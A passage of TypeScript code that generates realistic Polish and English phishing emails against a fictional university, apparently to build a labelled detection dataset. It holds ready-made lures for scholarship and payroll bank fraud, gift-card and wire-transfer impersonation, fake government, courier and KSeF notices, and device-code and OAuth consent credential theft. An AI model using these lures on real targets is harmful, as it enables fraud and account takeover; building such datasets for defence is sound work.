      `Decyzja stypendialna ${decision} - wymagana weryfikacja konta bankowego`,
      'Zapomoga dla studentów - ostatni dzień na potwierdzenie danych',
    ]),
    date,
    ...parts(
      r,
      {
        lang: 'pl',
        greeting: `${fem(s.first) ? 'Szanowna Pani' : 'Szanowny Panie'},`,
        blocks: [
          `uprzejmie informujemy, że decyzją nr ${decision} przyznano ${fem(s.first) ? 'Pani' : 'Panu'} stypendium rektora w wysokości **${sum} miesięcznie** na rok akademicki 2025/2026.`,
          'Warunkiem wypłaty pierwszej raty jest potwierdzenie numeru rachunku bankowego. Weryfikacja odbywa się przez jednorazowe zalogowanie do bankowości elektronicznej i przelew weryfikacyjny 1,00 zł, który zostanie zwrócony wraz ze stypendium.',
          { button: 'Potwierdź rachunek', href: link },
          `Potwierdzenie należy wykonać w ciągu 48 godzin. Po tym terminie środki zostaną przekazane kolejnej osobie z listy rankingowej.`,
        ],
        closing: 'Z poważaniem,',
        signature: ['Dział Spraw Studenckich', ORG.name],
      },
      0.3,
      0.2,
    ),
    via: gmail ? 'gmail' : 'vps',
    auth: gmail ? 'freemail' : 'lookalike',
  };
});

const STREETS = [
  'ul. Karmelicka',
  'ul. Dietla',
  'ul. Kazimierza Wielkiego',
  'ul. Czarnowiejska',
  'ul. Długa',
  'ul. Krowoderska',
  'ul. Starowiślna',
];

const accommodationScam = T('accommodation-scam', 'flat-deposit-abroad-owner', (r) => {
  const date = mailDate(r);
  const s = student(r);
  const owner = chance(r, 0.5) ? intlName(r) : plName(r);
  const street = `${pick(r, STREETS)} ${int(r, 2, 60)}`;
  const rent = pick(r, [1800, 2100, 2400, 2600]);
  const away = pick(r, ['Dublin', 'Oslo', 'London', 'Hamburg', 'Edinburgh']);
  const platform = pick(r, ['Airbnb', 'Booking.com', 'Rentola']);
  const withLink = chance(r, 0.5);
  const link = `https://${platform.toLowerCase().replace('.com', '')}.${pick(r, ['rooms-secure-pay.com', 'tenant-protection.net', 'com-reservation.info'])}/rooms/${digits(r, 8)}?guest=${token(r, 8)}`;
  const en = !s.email.includes('.') || chance(r, 0.6);
  const pay = withLink
    ? en
      ? `You can pay safely through ${platform}'s tenant protection here: ${link} - the money is held by ${platform} until you receive the keys.`
      : `Płatność możesz wykonać bezpiecznie przez ochronę najemcy ${platform}: ${link} - pieniądze są zablokowane do czasu odbioru kluczy.`
    : en
      ? `Please transfer the first month and the deposit (${rent * 2} PLN) to my account ${foreignIban(r)} and send me the confirmation with a copy of your ID.`
      : `Proszę o przelew pierwszego czynszu i kaucji (${rent * 2} zł) na moje konto ${foreignIban(r)} oraz przesłanie potwierdzenia i skanu dowodu.`;
  const text = en
    ? [
        `Hello ${s.first},`,
        '',
        `Thank you for your interest in my apartment on ${street} in Kraków (2 rooms, ${rent} PLN per month, bills included, 10 minutes from the campus).`,
        '',
        `Unfortunately I cannot show it to you in person, because I moved to ${away} for work and I only come back to Poland twice a year. My agent will courier the keys and the signed contract to you after the payment.`,
        '',
        pay,
        '',
        'There are other students asking about the flat, so please let me know today if you want it.',
        '',
        'Best regards,',
        owner.full,
      ]
    : [
        `Cześć ${s.first},`,
        '',
        `dziękuję za zainteresowanie mieszkaniem przy ${street} (2 pokoje, ${rent} zł miesięcznie z opłatami, 10 minut od uczelni).`,
        '',
        `Niestety nie mogę go pokazać osobiście, bo od roku pracuję w ${away === 'Oslo' ? 'Oslo' : away} i bywam w Polsce dwa razy w roku. Klucze i podpisaną umowę wyśle kurier po dokonaniu płatności.`,
        '',
        pay,
        '',
        'Pytają też inni studenci, więc daj proszę znać jeszcze dziś.',
        '',
        'Pozdrawiam',
        owner.full,
      ];
  return {
    from: { name: owner.full, address: freemail(r, owner, ['gmail.com', 'outlook.com', 'proton.me']) },
    to: [{ name: s.name, address: s.email }],
    subject: pick(r, [
      `Re: ${en ? 'Room near campus' : 'Mieszkanie blisko uczelni'} - ${street}`,
      en ? 'Apartment for rent in Kraków - available now' : 'Mieszkanie do wynajęcia - Kraków, od zaraz',
      en ? 'Accommodation for your semester in Kraków' : 'Pokój dla studenta - Kraków',
    ]),
    date,
    text: text.join('\n'),
  };
});

const payrollDiversion = T('payroll-diversion', 'salary-account-change-freemail', (r) => {
  const date = mailDate(r);
  const victim = pick(r, [
    STAFF.chem,
    STAFF.cs,
    STAFF.hist,
    STAFF.eco,
    STAFF.deanHum,
    STAFF.library,
    STAFF.intl,
    STAFF.procurement,
    STAFF.phys,
  ]);
  const f = fem(victim.first);
  const account = weighted(r, [
    [3, () => nrb(plIban(r, pick(r, ['mbank', 'alior', 'millennium', 'santander'] as const)))],
    [1, () => foreignIban(r)],
  ])();
  const variant = r.below(4);
  const month = monthPl(addDays(date, 20));
  const mobile = pick(r, ['', '', "\n\nWysłane z iPhone'a", '\n\nWysłano z aplikacji Outlook dla Androida']);
  const bodies = [
    `Dzień dobry,\n\nproszę o zmianę numeru rachunku, na który przelewane jest moje wynagrodzenie. Od tego miesiąca korzystam z innego banku.\n\nNowy numer konta: ${account}\n\nCzy zmiana zdąży wejść przed najbliższą wypłatą? Proszę o potwierdzenie.\n\nPozdrawiam\n${victim.name}${mobile}`,
    `Dzień dobry Pani Agnieszko,\n\n${f ? 'zmieniłam' : 'zmieniłem'} bank i ${f ? 'chciałabym' : 'chciałbym'} zaktualizować rachunek do wypłaty pensji. Czy mogę przesłać nowy numer mailowo, czy potrzebny jest jakiś formularz? Zależy mi, żeby zmiana objęła już wypłatę za ${month}.\n\nDziękuję,\n${victim.first}${mobile}`,
    `Dzień dobry,\n\nw załączeniu przesyłam nowy numer rachunku do wynagrodzenia - stary rachunek zostanie zamknięty z końcem miesiąca.\n\n${account}\n${pick(r, ['mBank', 'Revolut', 'Alior Bank', 'Santander'])}\n\nBardzo proszę o pilną zmianę i krótkie potwierdzenie.\n\nZ poważaniem\n${victim.title} ${victim.name}\n${victim.dept}${mobile}`,
    `Hello,\n\nI have recently changed my bank. Could you please update my salary account to the details below before the next payroll run?\n\nIBAN: ${account}\nAccount holder: ${ascii(victim.name)}\n\nPlease confirm once done.\n\nThank you,\n${victim.name}${mobile}`,
  ];
  const fromAddr = freemail(r, { first: victim.first, last: victim.last, full: victim.name }, [
    'gmail.com',
    'wp.pl',
    'onet.pl',
    'outlook.com',
    'interia.pl',
  ]);
  return {
    from: { name: victim.name, address: fromAddr },
    to: [addr(STAFF.payroll)],
    subject: pick(r, [
      'Zmiana numeru konta',
      'zmiana rachunku do wynagrodzenia',
      'Aktualizacja danych do wypłaty',
      'Prośba - konto bankowe',
      'Salary account update',
    ]),
    date,
    text: bodies[variant],
  };
});

const GIFT = ['Google Play', 'Apple', 'Allegro', 'Steam', 'Empik'];

const rectorGiftCard = T('rector-gift-card', 'rector-freemail-gift-cards', (r) => {
  const date = mailDate(r);
  const boss = weighted(r, [
    [3, STAFF.rector],
    [1, STAFF.prorector],
    [1, STAFF.deanPhys],
    [1, STAFF.deanHum],
    [1, STAFF.chancellor],
  ]);
  const to = pick(r, [
    STAFF.rectorOffice,
    STAFF.intl,
    STAFF.students,
    STAFF.library,
    STAFF.grants,
    STAFF.accounts,
    STAFF.chem,
    STAFF.cs,
  ]);
  const pp = panPani(to.first);
  const stage = r.below(3);
  const card = pick(r, GIFT);
  const n = pick(r, [5, 8, 10]);
  const value = pick(r, [100, 200, 250]);
  const role = boss === STAFF.rector ? 'Rektor Uniwersytetu Wiślanego' : boss.role;
  const sig = `${boss.name}\n${role}${chance(r, 0.5) ? "\n\nWysłane z iPhone'a" : ''}`;
  const texts = [
    `Dzień dobry ${pp === 'Pan' ? 'Panie' : 'Pani'} ${vocative(to.first)},\n\nczy jest ${pp} teraz przy komputerze? Potrzebuję pilnie pomocy w jednej sprawie. Jestem na ${pick(r, ['posiedzeniu Senatu', 'spotkaniu w Ministerstwie', 'konferencji rektorów', 'posiedzeniu Rady Uczelni'])} i nie mogę rozmawiać przez telefon.\n\nProszę o odpowiedź mailową.\n\n${sig}`,
    `${pp === 'Pan' ? 'Panie' : 'Pani'} ${vocative(to.first)},\n\npotrzebuję kupić ${n} kart podarunkowych ${card} po ${value} zł - to ${pick(r, ['nagrody dla laureatów konkursu kół naukowych', 'upominki dla delegacji z Bolonii', 'niespodzianka dla zespołu na jutrzejsze spotkanie'])}. Nie mam teraz możliwości zrobić tego sam${boss.first.endsWith('a') ? 'a' : ''}, pieniądze zwrócę jeszcze dziś.\n\nProszę zeskrobać kody i przesłać mi zdjęcia kart w odpowiedzi na tego maila. Sprawa jest pilna i na razie poufna.\n\n${sig}`,
    `Dzień dobry,\n\nproszę o podanie mi ${pick(r, ['swojego numeru komórkowego', 'numeru telefonu'])} - napiszę na WhatsAppie w sprawie, która wymaga dyskrecji. Nie jestem w stanie teraz dzwonić.\n\nDziękuję\n${sig}`,
  ];
  const local = pick(r, [
    `rektor.${ascii(boss.last).toLowerCase()}`,
    `${handle(boss)}.uw`,
    `prof.${ascii(boss.last).toLowerCase()}${digits(r, 2)}`,
    `rektorat.wislany`,
  ]);
  return {
    from: {
      name: pick(r, [boss.name, `${boss.title} ${boss.name}`, `Prof. ${boss.last}`]),
      address: `${local}@${pick(r, ['gmail.com', 'outlook.com', 'wp.pl', 'onet.pl'])}`,
    },
    to: [addr(to)],
    subject: pick(r, [
      'Pilne',
      'Prośba',
      `Czy jest ${pp} dostępn${fem(to.first) ? 'a' : 'y'}?`,
      'Sprawa',
      `${to.first}`,
      'Dyskretna prośba',
    ]),
    date,
    text: texts[stage],
  };
});

const COMPANIES = [
  'Hansa Research Consulting GmbH',
  'Baltic Science Services UAB',
  'EU Projects Partnership Ltd',
  'Nordic Lab Supplies OÜ',
  'Ortega Advisory S.L.',
];

const execWire = T('exec-impersonation-wire', 'rector-lookalike-urgent-transfer', (r) => {
  const date = mailDate(r);
  const boss = pick(r, [STAFF.rector, STAFF.prorector, STAFF.chancellor]);
  const to = pick(r, [STAFF.bursar, STAFF.accounts]);
  const look = pick(r, ORG_LOOKALIKES);
  const sum = amount(r, 18_000, 95_000);
  const payee = pick(r, COMPANIES);
  const acct = foreignIban(r);
  const purpose = pick(r, [
    'udział własny w konsorcjum projektu Horyzont Europa',
    'opłata członkowska sojuszu uczelni europejskich za 2026 r.',
    'zaliczka dla partnera projektu w Bolonii',
    'wpisowe i zakwaterowanie delegacji na konferencję rektorów',
  ]);
  const en = chance(r, 0.25);
  const lawyer = plName(r);
  const text = en
    ? `Dear ${to.first},\n\nI need you to process an urgent transfer today of ${eur(sum)} for ${pick(r, ['our share in the Horizon Europe consortium', 'the European university alliance membership fee', 'the advance for our Bologna project partner'])}. The matter is confidential until it is announced at the Senate, so please do not discuss it with anyone in the department.\n\nBeneficiary: ${payee}\nIBAN: ${acct}\nReference: ${upper(r, 3)}-${digits(r, 5)}\n\nPlease confirm by email once it is done. I am in meetings all day and cannot take calls.\n\nBest regards,\n${boss.name}\n${boss.roleEn}, ${ORG.nameEn}`
    : `${fem(to.first) ? 'Pani' : 'Panie'} ${vocative(to.first)},\n\nproszę o pilne zlecenie dziś przelewu na kwotę ${eur(sum)} tytułem: ${purpose}. Sprawa jest poufna do czasu ogłoszenia na Senacie - proszę jej nie omawiać z nikim w dziale.\n\nOdbiorca: ${payee}\nIBAN: ${acct}\nTytuł: ${upper(r, 3)}/${digits(r, 4)}/2026\n\n${chance(r, 0.5) ? `Szczegóły umowy przekaże ${fem(lawyer.first) ? 'Pani mecenas' : 'Pan mecenas'} ${lawyer.full}, ${fem(lawyer.first) ? 'która jest' : 'który jest'} w kopii.\n\n` : ''}Proszę o potwierdzenie realizacji mailowo. Jestem cały dzień na spotkaniach i nie mogę odebrać telefonu.\n\nZ poważaniem\n${boss.title} ${boss.name}\n${boss.role}`;
  return {
    from: { name: `${boss.title} ${boss.name}`, address: `${handle(boss)}@${look}` },
    to: [addr(to)],
    cc:
      !en && chance(r, 0.4)
        ? [
            {
              name: `mec. ${lawyer.full}`,
              address: `${handle(lawyer)}@kancelaria-${ascii(lawyer.last).toLowerCase()}-legal.eu`,
            },
          ]
        : undefined,
    subject: pick(
      r,
      en
        ? ['Urgent payment request - confidential', 'Transfer today', 'Confidential']
        : [
            'Pilny przelew - poufne',
            'Płatność dziś',
            `RE: ${purpose.split(' ')[0]} - płatność`,
            'Poufne - prośba o przelew',
          ],
    ),
    date,
    text,
    via: pick(r, ['m365', 'vps'] as const),
    auth: 'lookalike',
  };
});

const SELLERS = [
  { name: 'TECHLAB Sp. z o.o.', nip: '6762457812' },
  { name: 'Biurex Sp. z o.o.', nip: '9451987324' },
  { name: 'Chemland Dystrybucja S.A.', nip: '5272810456' },
  { name: 'Serwis IT Kraków Sp. z o.o.', nip: '6793112875' },
  { name: 'Polskie Odczynniki Laboratoryjne Sp. z o.o.', nip: '7251843390' },
  { name: 'Ekotrans Kurier Sp. z o.o.', nip: '8992674501' },
];

const ksefInvoice = T('ksef-einvoice', 'ksef-new-invoice-download', (r) => {
  const date = mailDate(r);
  const seller = pick(r, SELLERS);
  const to = pick(r, [STAFF.accounts, STAFF.bursar, STAFF.procurement]);
  const inv = `FV/${int(r, 100, 2999)}/${isoDay(date).slice(5, 7)}/2026`;
  const ksef = `${seller.nip}-${isoDay(date).replace(/-/g, '')}-${hex(r, 12).toUpperCase()}-${hex(r, 2).toUpperCase()}`;
  const gross = amount(r, 480, 38_000);
  const host = pick(r, ['ksef-mf.pl', 'ksef-podatki.pl', 'e-faktury-ksef.com', 'ksef.gov-pl.info']);
  const link = pick(r, [
    `https://${host}/faktura/${ksef}?pobierz=pdf`,
    freeHost(r, 'ksef-faktura'),
    `https://${host}/auth?redirect=/faktura/${token(r, 10)}`,
  ]);
  return {
    from: {
      name: 'Krajowy System e-Faktur (KSeF)',
      address: pick(r, [`powiadomienia@${host}`, `noreply@${host}`, `e-faktura@${host}`]),
    },
    to: [addr(to)],
    subject: pick(r, [
      `KSeF: otrzymano nową fakturę nr ${inv}`,
      `Nowa e-faktura od ${seller.name} w KSeF`,
      `Faktura ustrukturyzowana ${ksef} oczekuje na pobranie`,
    ]),
    date,
    ...parts(r, {
      lang: 'pl',
      brand: { name: 'KSeF', color: '#1f3d7a', sub: 'Krajowy System e-Faktur | Ministerstwo Finansów' },
      greeting: 'Szanowni Państwo,',
      blocks: [
        `w Krajowym Systemie e-Faktur zarejestrowano fakturę ustrukturyzowaną wystawioną na Państwa podmiot (NIP ${ORG.nip}).`,
        {
          facts: [
            ['Sprzedawca', seller.name],
            ['NIP sprzedawcy', seller.nip],
            ['Numer faktury', inv],
            ['Numer KSeF', ksef],
            ['Kwota brutto', pln(gross)],
            ['Termin płatności', plDate(addDays(date, pick(r, [3, 7, 14])))],
          ],
        },
        'Wizualizację faktury (PDF) oraz plik XML można pobrać po uwierzytelnieniu w systemie.',
        { button: 'Pobierz fakturę', href: link },
      ],
      footer: ['Wiadomość wygenerowana automatycznie przez system KSeF. Prosimy nie odpowiadać.'],
    }),
    via: 'vps',
    auth: 'lookalike',
  };
});

const parcelInpost = T('parcel-fee-inpost', 'inpost-redelivery-fee', (r) => {
  const date = mailDate(r);
  const to = chance(r, 0.6)
    ? someone(r)
    : (() => {
        const s = student(r);
        return { name: s.name, address: s.email };
      })();
  const nr = digits(r, 24);
  const locker = `KRA${int(r, 10, 99)}${pick(r, ['M', 'N', 'APP', 'H'])}`;
  const fee = pick(r, ['1,99', '2,49', '3,20', '1,50']);
  const spoof = chance(r, 0.3);
  const host = pick(r, [
    'inpost-paczka24.pl',
    'inpost-dostawa.com',
    'inpost.pl-sledzenie.info',
    'paczkomat-inpost.online',
  ]);
  const link = pick(r, [
    `https://${host}/platnosc/${nr.slice(0, 10)}`,
    freeHost(r, 'inpost-doplata'),
    shortLink(r),
  ]);
  return {
    from: { name: 'InPost', address: spoof ? 'powiadomienia@inpost.pl' : `powiadomienia@${host}` },
    returnPath: spoof ? `info@${pick(r, ['mailing-serv.ru', 'bulk-notify.xyz', 'send-now.top'])}` : undefined,
    to: [to],
    subject: pick(r, [
      'Twoja paczka czeka na dopłatę',
      `InPost: niedostarczona przesyłka nr ${nr}`,
      `Paczka zatrzymana - uzupełnij adres i dopłać ${fee} zł`,
    ]),
    date,
    ...parts(
      r,
      {
        lang: 'pl',
        brand: { name: 'InPost', color: '#ffcd00' },
        greeting: 'Dzień dobry,',
        blocks: [
          `Twoja przesyłka nr **${nr}** nie mogła zostać umieszczona w Paczkomacie ${locker} z powodu ${pick(r, ['niepełnego adresu', 'nieopłaconej różnicy gabarytu', 'błędnego numeru telefonu odbiorcy'])}.`,
          `Aby zlecić ponowne doręczenie, uzupełnij dane i uiść dopłatę **${fee} zł** w ciągu 24 godzin. Po tym czasie paczka zostanie zwrócona do nadawcy.`,
          { button: 'Opłać i odbierz paczkę', href: link, color: '#1d1d1b' },
        ],
        closing: 'Pozdrawiamy,',
        signature: ['Zespół InPost'],
      },
      0.5,
      0.1,
    ),
    via: 'vps',
    auth: spoof ? 'spoof' : 'lookalike',
  };
});

const postalCustoms = T('postal-customs', 'poczta-polska-customs-fee', (r) => {
  const date = mailDate(r);
  const to = someone(r);
  const nr = `${pick(r, ['CX', 'LX', 'RR', 'UA'])}${digits(r, 9)}${pick(r, ['CN', 'US', 'GB', 'DE'])}`;
  const fee = pick(r, ['12,80', '9,99', '17,45', '24,90']);
  const host = pick(r, [
    'poczta-polska-odprawa.com',
    'pocztapolska-e-nadawca.pl',
    'poczta-polska.pl.tracking-info.net',
    'envelo-pocztapolska.online',
  ]);
  const link = pick(r, [`https://${host}/oplata?nr=${nr}`, freeHost(r, 'poczta-polska-clo')]);
  return {
    from: { name: 'Poczta Polska', address: pick(r, [`awizo@${host}`, `powiadomienia@${host}`]) },
    to: [to],
    subject: pick(r, [
      `Awizo: przesyłka ${nr} oczekuje na odbiór`,
      `Poczta Polska: należność celna do zapłaty (${fee} zł)`,
      'Przesyłka zatrzymana przez Krajową Administrację Skarbową',
    ]),
    date,
    ...parts(
      r,
      {
        lang: 'pl',
        brand: { name: 'Poczta Polska', color: '#d81e05' },
        greeting: 'Szanowny Kliencie,',
        blocks: [
          `przesyłka zagraniczna nr ${nr} została zatrzymana do kontroli celnej. Do wydania przesyłki wymagane jest uiszczenie należności celno-podatkowych.`,
          {
            facts: [
              ['Numer przesyłki', nr],
              ['Należność (cło + VAT + opłata manipulacyjna)', `${fee} zł`],
              ['Termin', plDate(addDays(date, 5))],
            ],
          },
          { button: 'Zapłać należność', href: link },
          'Nieopłacone przesyłki są zwracane do nadawcy po upływie 5 dni roboczych.',
        ],
        footer: ['Poczta Polska S.A., ul. Rodziny Hiszpańskich 8, 00-940 Warszawa'],
      },
      0.4,
      0.1,
    ),
    via: 'vps',
    auth: 'lookalike',
  };
});

const epuapNotice = T('epuap-notice', 'epuap-new-letter', (r) => {
  const date = mailDate(r);
  const to = someone(r);
  const office = pick(r, [
    'Urząd Skarbowy Kraków-Krowodrza',
    'Sąd Rejonowy dla Krakowa-Śródmieścia',
    'Zakład Ubezpieczeń Społecznych Oddział w Krakowie',
    'Urząd Miasta Krakowa - Wydział Komunikacji',
    'Komornik Sądowy przy Sądzie Rejonowym w Krakowie',
  ]);
  const spoof = chance(r, 0.3);
  const host = pick(r, [
    'epuap-gov.pl',
    'epuap.gov.pl.skrzynka-pism.com',
    'gov-pl.info',
    'skrzynka-epuap.online',
  ]);
  const link = pick(r, [
    `https://${host}/wps/portal/skrzynka?pismo=${token(r, 12)}`,
    compromisedSite(r, 'epuap'),
    freeHost(r, 'epuap-pismo'),
  ]);
  return {
    from: { name: 'ePUAP', address: spoof ? 'powiadomienia@epuap.gov.pl' : `powiadomienia@${host}` },
    returnPath: spoof ? `${chars(r, 6)}@${pick(r, ['notify-mail.xyz', 'srv-mailer.top'])}` : undefined,
    to: [to],
    subject: pick(r, [
      'Nowe pismo w skrzynce ePUAP',
      'Otrzymano pismo urzędowe - termin odbioru 7 dni',
      `ePUAP: doręczenie pisma od: ${office}`,
    ]),
    date,
    ...parts(r, {
      lang: 'pl',
      brand: {
        name: 'ePUAP',
        color: '#d4213d',
        sub: 'Elektroniczna Platforma Usług Administracji Publicznej',
      },
      greeting: 'Szanowna Pani / Szanowny Panie,',
      blocks: [
        `na Pani/Pana skrzynkę ePUAP wpłynęło nowe pismo.`,
        {
          facts: [
            ['Nadawca', office],
            ['Rodzaj', pick(r, ['Wezwanie', 'Postanowienie', 'Zawiadomienie', 'Decyzja'])],
            ['Data nadania', plDate(date)],
          ],
        },
        'Pismo należy odebrać w ciągu 7 dni. Po upływie tego terminu zostanie ono uznane za doręczone.',
        { button: 'Odbierz pismo', href: link },
        'Do odbioru wymagane jest zalogowanie Profilem Zaufanym lub przez bankowość elektroniczną.',
      ],
      footer: ['Wiadomość wygenerowana automatycznie. Nie odpowiadaj na nią.'],
    }),
    via: 'vps',
    auth: spoof ? 'spoof' : 'lookalike',
  };
});

const mobywatelNotice = T('mobywatel-notice', 'mobywatel-reverify', (r) => {
  const date = mailDate(r);
  const isStudent = chance(r, 0.4);
  const s = student(r, 'pl');
  const to = isStudent ? { name: s.name, address: s.email } : someone(r);
  const doc = isStudent ? 'mLegitymacja studencka' : pick(r, ['mDowód', 'mPrawo Jazdy']);
  const host = pick(r, [
    'mobywatel-gov.pl',
    'mobywatel.gov.pl.weryfikacja.app',
    'gov-mobywatel.com',
    'mobywatel-aktualizacja.pl',
  ]);
  const link = pick(r, [
    `https://${host}/weryfikacja?u=${token(r, 12)}`,
    freeHost(r, 'mobywatel-weryfikacja'),
  ]);
  return {
    from: { name: 'mObywatel', address: pick(r, [`powiadomienia@${host}`, `noreply@${host}`]) },
    to: [to],
    subject: pick(r, [
      'mObywatel: wymagana ponowna weryfikacja tożsamości',
      `${doc} wygaśnie za 2 dni`,
      'Aktualizacja aplikacji mObywatel - potwierdź dane',
    ]),
    date,
    ...parts(
      r,
      {
        lang: 'pl',
        brand: { name: 'mObywatel', color: '#0052a5', sub: 'gov.pl' },
        greeting: 'Dzień dobry,',
        blocks: [
          `w związku z wprowadzeniem nowej wersji aplikacji mObywatel konieczne jest ponowne potwierdzenie tożsamości dla dokumentu **${doc}**.`,
          `Jeżeli nie zrobisz tego do ${plDate(addDays(date, 2))}, dokument zostanie unieważniony w aplikacji, a dostęp do usług zablokowany.`,
          { button: 'Potwierdź tożsamość', href: link },
          'Potwierdzenie odbywa się przez bankowość elektroniczną lub Profil Zaufany.',
        ],
        footer: ['Ministerstwo Cyfryzacji, ul. Królewska 27, 00-060 Warszawa'],
      },
      0.5,
      0,
    ),
    via: 'vps',
    auth: 'lookalike',
  };
});

/** Small firms' domains whose mailboxes or websites attackers have taken over (invented). */
const HIJACKED = [
  'biuro-rachunkowe-saldo.pl',
  'kamex-instalacje.com.pl',
  'hotel-pod-wawelem-krakow.pl',
  'transport-miedzynarodowy-kos.pl',
  'studio-projektowe-linea.eu',
  'drukarnia-offset-tarnow.pl',
];

const passwordExpiry = T('password-expiry', 'm365-password-expires-today', (r) => {
  const date = mailDate(r);
  const to = anyone(r);
  const how = r.below(3);
  const look = pick(r, ORG_LOOKALIKES);
  const hijacked = pick(r, HIJACKED);
  const from = [
    { name: 'Centrum Informatyczne', address: 'helpdesk@corp.example' },
    { name: 'Microsoft 365 | Uniwersytet Wiślany', address: `no-reply@${look}` },
    { name: 'IT Service Desk', address: `biuro@${hijacked}` },
  ][how];
  const landing = `${pick(r, [compromisedSite(r, 'owa'), freeHost(r, 'corp-mail-auth'), `https://logowanie.${look}/adfs/ls/`])}#${Buffer.from(to.email).toString('base64')}`;
  const link = chance(r, 0.3) ? viaRedirect(r, landing) : landing;
  const en = chance(r, 0.3);
  return {
    from,
    returnPath:
      how === 0 ? `${chars(r, 8)}@${pick(r, ['smtp-relay.top', 'mailer-cloud.xyz', hijacked])}` : undefined,
    to: [addr(to)],
    subject: en
      ? pick(r, [
          `Password expiry notice for ${to.email}`,
          'Your password expires today',
          'Action required: keep your current password',
        ])
      : pick(r, [
          `Hasło do konta ${to.email} wygasa dzisiaj`,
          'Powiadomienie o wygaśnięciu hasła',
          'Zachowaj obecne hasło - działanie wymagane',
        ]),
    date,
    ...parts(
      r,
      en
        ? {
            lang: 'en',
            greeting: `Hello ${to.first},`,
            blocks: [
              `The password for your account ${to.email} expires on ${longDate(date, 'en')}.`,
              'To keep your current password and avoid losing access to Outlook, Teams and OneDrive, confirm it below.',
              { button: 'Keep current password', href: link },
            ],
            footer: ['Microsoft 365 Administration | Wisła University IT Centre'],
          }
        : {
            lang: 'pl',
            greeting: `Witaj ${to.first},`,
            blocks: [
              `hasło do Twojego konta **${to.email}** wygasa dzisiaj (${plDate(date)}).`,
              'Aby zachować obecne hasło i nie utracić dostępu do poczty, Teams i OneDrive, potwierdź je poniżej.',
              { button: 'Zachowaj obecne hasło', href: link },
              'Jeśli nie potwierdzisz hasła, zostanie ono automatycznie zresetowane, a dostęp do skrzynki zablokowany.',
            ],
            footer: ['Centrum Informatyczne Uniwersytetu Wiślanego | Microsoft 365'],
          },
      0.5,
      0,
    ),
    via: how === 1 ? 'm365' : 'vps',
    auth: how === 0 ? 'spoof' : how === 1 ? 'lookalike' : 'pass',
  };
});

const deviceCode = T('device-code', 'teams-device-code-share', (r) => {
  const date = mailDate(r);
  const to = researcher(r);
  const sender = chance(r, 0.5) ? intlName(r) : plName(r);
  const org = pick(r, [
    { name: 'Baltic Research Consortium', domain: 'baltic-research-consortium.eu' },
    { name: 'Institute for Applied Photonics', domain: 'iap-photonics-institute.org' },
    { name: 'EU Heritage Network', domain: 'eu-heritage-network.org' },
    { name: 'Centro Ricerche Emilia', domain: 'centro-ricerche-emilia.eu' },
  ]);
  const free = chance(r, 0.4);
  const code = upper(r, 9);
  const pl = chance(r, 0.35);
  const text = pl
    ? `Dzień dobry,\n\nzgodnie z ustaleniami z naszej rozmowy ${fem(sender.first) ? 'udostępniłam' : 'udostępniłem'} projekt umowy konsorcjum i budżet w naszym zespole Teams. Ponieważ jest ${panPani(to.first)} gościem w naszej dzierżawie, dostęp trzeba jednorazowo autoryzować:\n\n1. Proszę wejść na https://microsoft.com/devicelogin\n2. Wpisać kod: ${code}\n3. Zalogować się kontem uczelnianym\n\nKod jest ważny 15 minut - gdyby wygasł, wyślę nowy.\n\nPozdrawiam\n${sender.full}\n${org.name}`
    : `Hi ${to.first},\n\nFollowing our call, I've shared the draft consortium agreement and the budget with you in our Teams workspace. As you're an external guest on our tenant, you need to authorise the access once:\n\n1. Go to https://microsoft.com/devicelogin\n2. Enter the code: ${code}\n3. Sign in with your university account\n\nThe code is valid for 15 minutes, so let me know if it expires and I'll send a new one.\n\nBest,\n${sender.full}\n${org.name}`;
  const html = chance(r, 0.4)
    ? parts(
        r,
        {
          lang: pl ? 'pl' : 'en',
          brand: { name: 'Microsoft Teams', color: '#464eb8' },
          blocks: [
            pl
              ? `${sender.full} zaprasza do zespołu **${org.name} - WP2**`
              : `${sender.full} invited you to the team **${org.name} - WP2**`,
            pl
              ? 'Aby dołączyć, otwórz stronę logowania urządzenia i wprowadź kod:'
              : 'To join, open the device login page and enter the code:',
            `**${code}**`,
            {
              button: pl ? 'Otwórz stronę logowania' : 'Open device login',
              href: 'https://microsoft.com/devicelogin',
            },
            pl ? 'Kod wygasa po 15 minutach.' : 'The code expires in 15 minutes.',
          ],
        },
        1,
        0,
      )
    : { text };
  return {
    from: {
      name: sender.full,
      address: free ? freemail(r, sender, ['gmail.com', 'outlook.com']) : `${handle(sender)}@${org.domain}`,
    },
    to: [addr(to)],
    subject: pick(
      r,
      pl
        ? [
            'Dokumenty konsorcjum - dostęp w Teams',
            'Umowa konsorcjum - wersja robocza',
            'Re: spotkanie WP2 - materiały',
          ]
        : [
            'Consortium documents - access via Teams',
            'Draft consortium agreement',
            'Re: WP2 call - shared files',
          ],
    ),
    date,
    ...html,
    via: free ? pick(r, ['gmail', 'outlook'] as const) : 'm365',
    auth: free ? 'freemail' : 'lookalike',
  };
});

const FILES_PL = [
  'Rekrutacja 2026 - wyniki.xlsx',
  'Regulamin wynagradzania 2026.pdf',
  'Plan podziału środków na badania 2026.xlsx',
  'Lista nagród rektora 2025.pdf',
  'Harmonogram sesji letniej.docx',
  'Ocena okresowa - zestawienie.xlsx',
];

const oauthConsent = T('oauth-consent', 'sharepoint-share-consent-app', (r) => {
  const date = mailDate(r);
  const to = anyone(r);
  const sharer = anyone(r);
  const file = pick(r, FILES_PL);
  const clientId = `${hex(r, 8)}-${hex(r, 4)}-4${hex(r, 3)}-${pick(r, ['8', '9', 'a', 'b'])}${hex(r, 3)}-${hex(r, 12)}`;
  const redirect = pick(r, [
    `https://docs-preview-${chars(r, 5)}.azurewebsites.net/auth/callback`,
    `https://secure-docview.${pick(r, ['app', 'online', 'cloud'])}/oauth/callback`,
    `https://${chars(r, 8)}.ngrok-free.app/callback`,
  ]);
  const scope = encodeURIComponent(
    pick(r, [
      'offline_access Mail.ReadWrite Files.ReadWrite.All User.Read',
      'offline_access Mail.Read Mail.Send Contacts.Read User.Read',
      'offline_access Files.Read.All Sites.Read.All Mail.ReadWrite',
    ]),
  );
  const link = `https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=${clientId}&response_type=code&redirect_uri=${encodeURIComponent(redirect)}&scope=${scope}&state=${token(r, 16)}&prompt=consent`;
  const host = pick(r, ['sharepoint-docs.net', 'onedrive-share.online', 'sharepointonline-notify.com']);
  const en = chance(r, 0.5);
  return {
    from: { name: `${sharer.name} (SharePoint Online)`, address: `no-reply@${host}` },
    to: [addr(to)],
    subject: en
      ? `${sharer.name} shared "${file}" with you`
      : `${sharer.name} udostępnił(a) Ci plik „${file}”`,
    date,
    ...parts(
      r,
      {
        lang: en ? 'en' : 'pl',
        brand: { name: 'SharePoint', color: '#036c70' },
        blocks: en
